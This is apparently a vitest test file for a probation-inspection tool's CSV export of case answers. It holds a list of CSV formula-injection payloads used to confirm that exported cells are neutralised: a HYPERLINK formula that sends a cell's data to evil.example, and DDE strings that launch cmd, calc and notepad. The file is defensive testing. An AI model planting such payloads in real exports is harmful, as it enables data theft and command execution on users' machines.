import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { createLondonDemo } from '../../../seeds';
import { caseQuestions, PROBATION_PDU_2021 } from '#shared/framework';
import {
  answersToCsv,
  CASE_COLUMNS,
  CSV_BOM,
  neutraliseCell,
  type ExportedInspection,
} from '#shared/interchange';
import { inspectionArbitrary } from '../../helpers/arbitraries';

/** The cells as a spreadsheet reads them: the byte-order mark off, every quoted field unquoted. */
function parse(text: string): string[][] {
  expect(text.startsWith(CSV_BOM)).toBe(true);
  const result = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
}

/** Rows keyed by the second header row's ids. */
function records(text: string): Record<string, string>[] {
  const [, ids, ...body] = parse(text) as [string[], string[], ...string[][]];
  return body.map((row) => Object.fromEntries(ids.map((id, n) => [id, row[n]!])));
}

/**
 * What a spreadsheet (Excel, LibreOffice, Google Sheets) treats as the start of a formula, or as a control
 * character that can shift one in: the OWASP list, with the full-width forms some spreadsheets also accept.
 */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

/** Hostile text an inspector might paste, or a file might carry, as a reference or a note. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&B2,"Click")',
  '=1+1',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uFF1D1+1',
  "=cmd|' /C notepad'!'A1'",
  '"=1+1"',
  "'=1+1",
  ' =1+1',
  'DDE("cmd";"/C calc";"!A0")A0',
];

describe('CSV of case-level answers', () => {
  it('round-trips every answer and note through a CSV parser, commas, quotes and new lines included', () => {
    fc.assert(
      fc.property(inspectionArbitrary(6, [PROBATION_PDU_2021]), (inspection) => {
        const body = records(answersToCsv([inspection]));
        const live = inspection.cases.filter((c) => !c.deleted);
        expect(body).toHaveLength(live.length);
        const byId = new Map(body.map((row) => [row['case id'], row]));
        live.forEach((c) => {
          if (c.deleted) return;
          const row = byId.get(c.id)!;
          expect(row.reference).toBe(neutraliseCell(c.reference));
          for (const [questionId, answer] of Object.entries(c.answers)) {
            expect(row[questionId]).toBe(answer.value ?? '');
            expect(row[`${questionId} note`]).toBe(neutraliseCell(answer.note ?? ''));
          }
        });
      }),
      { numRuns: 60 },
    );
  });

  it('has a stable column order: the case facts, then each question and its note in framework order', () => {
    const demo = createLondonDemo();
    const ids = parse(answersToCsv(demo.slice(0, 1)))[1]!;
    const questions = caseQuestions(PROBATION_PDU_2021).map((q) => q.id);
    expect(ids).toEqual([...CASE_COLUMNS, ...questions.flatMap((q) => [q, `${q} note`])]);
    expect(parse(answersToCsv(demo))[1]).toEqual(ids);
  });

  it("heads the columns in inspectors' words with the question number, the ids in the row below", () => {
    const demo = createLondonDemo();
    // The London inspections rate court work, so assessment is standard 2.2.
    const [words, ids] = parse(answersToCsv(demo.slice(0, 1))) as [string[], string[]];
    const column = (id: string) => words[ids.indexOf(id)];
    expect(column('reference')).toBe('Case reference');
    expect(column('rosh')).toBe('Risk of serious harm');
    expect(column('assessment.engagement')).toBe(
      '2.2.1 Does assessment focus sufficiently on engaging the person on probation?',
    );
    expect(column('assessment.engagement note')).toBe('2.2.1 note');
    expect(column('assessment.safety')).toMatch(/^2\.2\.3 Does assessment focus sufficiently on keeping/);
    expect(column(PROBATION_PDU_2021.domains[1]!.standards[1]!.keyQuestions[0]!.prompts[1]!.id)).toMatch(
      /^2\.2\.1b /,
    );
    expect(column('management-oversight')).toBe(
      '2.4.4 Where the case required it, was management oversight effective? (not rated)',
    );
    // Without court work the standards renumber: assessment becomes 2.1.
    const withoutCourt = { ...demo[0]!, options: { courtWork: false } };
    const [renumbered] = parse(answersToCsv([withoutCourt])) as [string[]];
    expect(renumbered[ids.indexOf('assessment.engagement')]).toMatch(/^2\.1\.1 /);
    expect(renumbered[ids.indexOf('court-work.advice')]).toMatch(/\(standard not rated\)$/);
    // Inspections that disagree on court work share one set of numbers: every standard rated.
    const [mixed] = parse(answersToCsv([withoutCourt, demo[0]!])) as [string[]];
    expect(mixed[ids.indexOf('assessment.engagement')]).toMatch(/^2\.2\.1 /);
  });

  it('writes one row per live case of every inspection', () => {
    const demo = createLondonDemo();
    expect(parse(answersToCsv(demo))).toHaveLength(2 + 248);
  });

  it('opens every cell of a sheet built from hostile references and notes, and none can start a formula', () => {
    const base = createLondonDemo()[4]!;
    const live = base.cases.filter((c) => !c.deleted);
    const hostileCases = HOSTILE.map((text, i) => {
      const c = live[i % live.length]!;
      const answers = Object.fromEntries(
        Object.entries(c.answers).map(([id, answer]) => [id, { ...answer, note: text }]),
      );
      return { ...c, id: `hostile-${i}`, reference: text, inspector: text.slice(0, 20), note: text, answers };
    });
    const hostile = { ...base, name: '=HYPERLINK("https://evil.example")', cases: hostileCases };
    const text = answersToCsv([hostile]);
    const cells = parse(text).flat();
    expect(cells.length).toBeGreaterThan(HOSTILE.length * 100);
    for (const cell of cells) {
      for (const start of FORMULA_STARTS) expect(cell.startsWith(start), JSON.stringify(cell)).toBe(false);
    }
    // The text is all still there, behind the apostrophe a spreadsheet shows as text and does not display.
    const rows = records(text);
    const byId = new Map(rows.map((r) => [r['case id'], r]));
    HOSTILE.forEach((text, i) => expect(byId.get(`hostile-${i}`)!.reference).toBe(neutraliseCell(text)));
    expect(byId.get('hostile-0')!.reference).toBe('\'=HYPERLINK("https://evil.example/?d="&B2,"Click")');
    expect(byId.get('hostile-0')!['assessment.safety note']).toBe(
      '\'=HYPERLINK("https://evil.example/?d="&B2,"Click")',
    );
    expect(byId.get('hostile-11')!.reference).toBe('"=1+1"');
    expect(rows[0]!.inspection).toBe('\'=HYPERLINK("https://evil.example")');
  });

  it('neutralises any text fast-check finds that starts like a formula', () => {
    fc.assert(
      fc.property(fc.constantFrom(...FORMULA_STARTS), fc.string(), (start, rest) => {
        const cell = neutraliseCell(start + rest);
        expect(cell).toBe(`'${start}${rest}`);
        expect(FORMULA_STARTS.some((s) => cell.startsWith(s))).toBe(false);
      }),
    );
    expect(neutraliseCell('CRN X123456')).toBe('CRN X123456');
  });

  it('refuses to mix framework versions in one sheet', () => {
    const youth: ExportedInspection = {
      ...createLondonDemo()[0]!,
      name: 'YOS',
      framework: { id: 'hmip-youth', version: '2018' },
      cases: [],
    };
    expect(() => answersToCsv([createLondonDemo()[1]!, youth])).toThrow('YOS uses another framework');
  });

  it("writes a youth case's own details, safety and wellbeing, and no probation ones", () => {
    const youth: ExportedInspection = {
      id: 'yos',
      name: 'YOS',
      framework: { id: 'hmip-youth', version: '2018' },
      options: {},
      judgements: {},
      overrides: {},
      cases: [
        {
          id: 'y1',
          reference: 'Y-1',
          caseType: 'out-of-court-disposal',
          attributes: { rosh: 'low', safetyWellbeing: 'high' },
          answers: {},
        },
      ],
    };
    const [, header, row] = parse(answersToCsv([youth]));
    expect(header!.slice(0, 9)).toEqual([
      'inspection',
      'case id',
      'reference',
      'case type',
      'rosh',
      'safety and wellbeing',
      'inspector',
      'case note',
      'case status',
    ]);
    expect(header).not.toContain('court report');
    expect(row!.slice(4, 6)).toEqual(['low', 'high']);
  });

  it("gives each case's quality-assurance status, a case with none being in progress", () => {
    const [inspection] = createLondonDemo().slice(4, 5) as [ExportedInspection];
    const live = inspection.cases.filter((c) => !c.deleted);
    const at = '2022-09-06T10:00:00.000Z';
    const statuses = new Map([
      [live[0]!.id, { value: 'submitted' as const, updatedAt: at, by: 'KM' }],
      [live[1]!.id, { value: 'locked' as const, updatedAt: at, by: 'QL' }],
      [live[2]!.id, { value: 'quality-assured' as const, updatedAt: at, by: 'QL' }],
    ]);
    const withStatus: ExportedInspection = {
      ...inspection,
      cases: inspection.cases.map((c) =>
        !c.deleted && statuses.has(c.id) ? { ...c, status: statuses.get(c.id)! } : c,
      ),
    };
    const [words, ids] = parse(answersToCsv([withStatus])) as [string[], string[]];
    expect(words[ids.indexOf('case status')]).toBe('Case status');
    const byId = new Map(records(answersToCsv([withStatus])).map((row) => [row['case id'], row]));
    expect(byId.get(live[0]!.id)!['case status']).toBe('submitted');
    expect(byId.get(live[1]!.id)!['case status']).toBe('locked');
    expect(byId.get(live[2]!.id)!['case status']).toBe('quality-assured');
    expect(byId.get(live[3]!.id)!['case status']).toBe('in-progress');
  });

  it('starts with the byte-order mark, quotes every field and ends lines with CRLF', () => {
    const text = answersToCsv(createLondonDemo().slice(4, 5));
    expect(text.startsWith(`${CSV_BOM}"Inspection","Case id (Casescore)","Case reference"`)).toBe(true);
    expect(text.split('\r\n')[1]!.startsWith('"inspection","case id","reference"')).toBe(true);
    expect(text.split('\r\n').length).toBe(2 + 41 + 1);
  });
});
